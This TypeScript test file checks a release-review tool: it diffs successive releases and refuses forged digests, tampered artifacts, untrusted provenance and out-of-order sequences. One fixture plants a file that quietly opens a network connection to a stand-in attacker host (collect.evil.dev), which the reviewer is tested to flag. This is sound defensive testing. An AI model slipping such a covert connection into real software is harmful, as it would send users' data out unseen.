// SPDX-License-Identifier: Apache-2.0
import assert from "node:assert/strict";
import { once } from "node:events";
import { chmod, mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { json } from "node:stream/consumers";
import { after, test } from "node:test";
import { type Digest, sha256 } from "@countersign/trust/digest";
import type { Signed } from "@countersign/trust/envelope";
import type { Approval } from "@countersign/trust/release/approval";
import { releaseDigest, type Statement } from "@countersign/trust/release/statement";
import { approve } from "./approve.ts";
import { governClient } from "./govern-client.ts";
import { proposeRelease, type ReleaseDraft } from "./propose.ts";
import { type Review, reviewProposal } from "./review.ts";
import { accepted, sampleKey, sampleRepository } from "./sample-repository.test-support.ts";
import { signApproval } from "./sign-approval.ts";

const scratch = await mkdtemp(join(tmpdir(), "review-"));
const repository = await sampleRepository(scratch);
const { url: store, anchor, files, keys } = repository;

/** A govern that believes everything and keeps the last thing it was told: what it answers is in the hands of the test. */
let kept: { body: Statement; approvals: Signed<Approval>[] };
const postbox = createServer(async (request, response) => {
  const sent = request.method === "POST" ? ((await json(request)) as { body?: Statement; proposal: Signed<Approval> }) : undefined;
  if (sent?.body !== undefined) kept = { body: sent.body, approvals: [sent.proposal] };
  else if (sent !== undefined) kept.approvals.push(sent as unknown as Signed<Approval>);
  response.end(JSON.stringify({ ...kept, state: "proposed", needed: 1 }));
}).listen(0, "127.0.0.1");
await once(postbox, "listening");
const address = postbox.address();
const govern = governClient(`http://127.0.0.1:${typeof address === "object" ? address?.port : address}`);

after(async () => {
  postbox.close();
  postbox.closeAllConnections();
  await repository[Symbol.asyncDispose]();
  await rm(scratch, { recursive: true });
});

async function plant(name: string, tree: Readonly<Record<string, string>>): Promise<string> {
  for (const [path, content] of Object.entries(tree)) {
    const file = join(scratch, name, path);
    await mkdir(dirname(file), { recursive: true });
    await writeFile(file, content);
  }
  return join(scratch, name);
}

async function propose(draft: ReleaseDraft): Promise<{ readonly digest: Digest; readonly statement: Statement }> {
  return accepted(await proposeRelease({ govern, store, anchor, now: Date.now(), key: keys.ci, draft }));
}

async function review(digest: Digest): Promise<Review> {
  return accepted(await reviewProposal({ govern, store, anchor, now: Date.now(), digest }));
}

async function refusedWith(digest: Digest): Promise<string> {
  const outcome = await reviewProposal({ govern, store, anchor, now: Date.now(), digest });
  return outcome.ok ? "accepted" : outcome.refusal.code;
}

const first = await propose(
  await repository.build(await plant("1", { "bin/hello": "one", "lib/old": "old", "share/run": "same" }), "1.0.0"),
);

test("the first release is compared with nothing: all of it is new", async () => {
  const { changes, previous, verdicts } = await review(first.digest);
  assert.equal(previous, undefined);
  assert.deepEqual(
    changes.filter(({ kind }) => kind !== "field").map((change) => [change.kind, "path" in change && change.path]),
    [
      ["added", "bin/hello"],
      ["added", "lib/old"],
      ["added", "share/run"],
    ],
  );
  assert.ok(verdicts.length > 8 && verdicts.every(({ refusal }) => refusal === undefined));
});

test("a release states what follows the published one, and its review shows every difference from it", async () => {
  await repository.publish(first.statement, first.digest);
  const directory = await plant("2", { "bin/hello": "two", "lib/new": "new", "share/run": "same" });
  await chmod(join(directory, "share/run"), 0o755);
  const draft = await repository.build(directory, "1.1.0");
  const { digest, statement } = await propose({ ...draft, privileges: ["network"], epochUp: true });
  assert.deepEqual([statement.sequence, statement.predecessor, statement.epoch], [2, first.digest, 1]);
  const { changes, previous } = await review(digest);
  assert.equal(previous?.digest, first.digest);
  assert.deepEqual(
    changes.map((change) => (change.kind === "field" ? [change.field, change.before, change.after] : [change.kind, change.path])),
    [
      ["version", "1.0.0", "1.1.0"],
      ["source", ...["1.0.0", "1.1.0"].map((version) => `git+https://git.example/hello@${sha256(Buffer.from(version)).slice(0, 40)}`)],
      ["privileges", "", "network"],
      ["epoch", "0", "1"],
      ["changed", "bin/hello"],
      ["added", "lib/new"],
      ["removed", "lib/old"],
      ["mode", "share/run"],
    ],
  );
});

test("attack: a release that starts to talk and does not say so is named as unusual, with the line", async () => {
  const directory = await plant("quiet", {
    "bin/hello": "two",
    "lib/start.js": `import { connect } from "node:net";\nconnect(443, "collect.evil.dev");\n`,
  });
  const { digest } = await propose(await repository.build(directory, "1.1.1"));
  const { drift } = await review(digest);
  const seen = drift.flatMap(({ sightings }) => sightings);
  assert.deepEqual(
    drift.map(({ platform }) => platform),
    ["linux-x64"],
  );
  const [undeclared] = seen.filter(({ signal }) => signal === "privilege-undeclared");
  assert.deepEqual(undeclared?.evidence, [{ text: "network: network", path: "lib/start.js", line: 1 }]);
  assert.ok(seen.some(({ signal }) => signal === "capability-dangerous"));
});

test("attack: govern shows another statement than the one of the digest, and there is no review of it", async () => {
  const { digest, statement } = await propose(await repository.build(join(scratch, "2"), "1.1.8"));
  kept = { ...kept, body: { ...statement, privileges: ["everything"] } };
  assert.equal(await refusedWith(digest), "digest-mismatch");
});

test("attack: govern makes up a statement that nobody proposed", async () => {
  const { statement } = await propose(await repository.build(join(scratch, "2"), "1.1.2"));
  const body = { ...statement, urgent: true };
  kept = { ...kept, body };
  assert.equal(await refusedWith(releaseDigest(body)), "proposal-not-signed");
});

test("attack: other bytes under the artifact's name", async () => {
  const { digest, statement } = await propose(await repository.build(join(scratch, "2"), "1.1.3"));
  const path = `artifacts/${statement.artifacts[0]?.sha256}`;
  const honest = files.get(path) ?? new Uint8Array();
  files.set(path, honest.with(40, (honest[40] ?? 0) ^ 1));
  assert.equal(await refusedWith(digest), "digest-mismatch");
  files.set(path, honest);
  assert.equal(await refusedWith(digest), "accepted");
});

test("attack: provenance of a stranger, and provenance that was changed after it was logged", async () => {
  const strange = await propose(await repository.build(join(scratch, "2"), "1.1.4", sampleKey()));
  assert.equal(await refusedWith(strange.digest), "builder-not-trusted");
  const { digest, statement } = await propose(await repository.build(join(scratch, "2"), "1.1.5"));
  const path = `provenance/${statement.provenance[0]}`;
  const honest = Buffer.from(files.get(path) ?? []);
  files.set(path, Buffer.from(honest.toString().replace('"keyid":"', '"keyid":"x')));
  assert.equal(await refusedWith(digest), "provenance-not-named");
  files.set(path, honest);
});

test("attack: a release that jumps ahead, or raises the floor by more than one", async () => {
  const { statement } = await propose(await repository.build(join(scratch, "2"), "1.1.6"));
  const forged = async (changes: Partial<Statement>): Promise<Digest> => {
    const body = { ...statement, ...changes };
    kept = { body, approvals: [await signApproval("propose", "release", releaseDigest(body), keys.ci)] };
    return releaseDigest(body);
  };
  assert.equal(await refusedWith(await forged({ sequence: 3 })), "predecessor-not-published");
  assert.equal(await refusedWith(await forged({ predecessor: null })), "predecessor-not-published");
  assert.equal(await refusedWith(await forged({ epoch: 2 })), "epoch-out-of-step");
});

test("an approval signs the digest that was reviewed", async () => {
  const { digest } = await propose(await repository.build(join(scratch, "2"), "1.1.7"));
  accepted(await approve({ review: await review(digest), key: keys.alice, govern }));
  const { signed, signatures } = kept.approvals[1] ?? {};
  assert.deepEqual(signed, { _type: "approval", spec: "countersign/1", decision: "approve", subject: "release", digest });
  assert.equal(signatures?.[0]?.keyid, keys.alice.keyid);
});
